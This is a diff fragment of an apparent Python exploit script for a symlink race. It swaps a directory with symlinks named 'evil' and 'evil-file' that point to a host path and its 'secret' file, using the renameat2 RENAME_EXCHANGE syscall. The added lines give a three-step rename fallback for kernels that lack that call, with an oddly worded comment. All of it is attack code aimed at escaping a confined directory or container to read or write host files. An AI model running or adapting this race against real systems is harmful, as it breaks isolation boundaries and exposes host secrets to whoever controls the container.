@@ -4,7 +4,12 @@ os.makedirs('dir/folder'); open('dir/secret', 'w').write('inside'); open('dir/fo
 os.symlink(host, 'evil')
 open('file', 'w').write('inside'); os.symlink(host + '/secret', 'evil-file')
 flips = 0
-def exchange(a, b): return libc.syscall(316, -100, a, -100, b, 2)
+def exchange(a, b):
+    if libc.syscall(316, -100, a, -100, b, 2) == 0: return
+    # A kernel without RENAME_EXCHANGE: in three steps, beside those who write new ones into the gap.
+    for old, new in ((a, a + b'-away'), (b, a), (a + b'-away', b)):
+        try: os.rename(old, new)
+        except OSError: pass
 def flip():
     global flips
     while True:
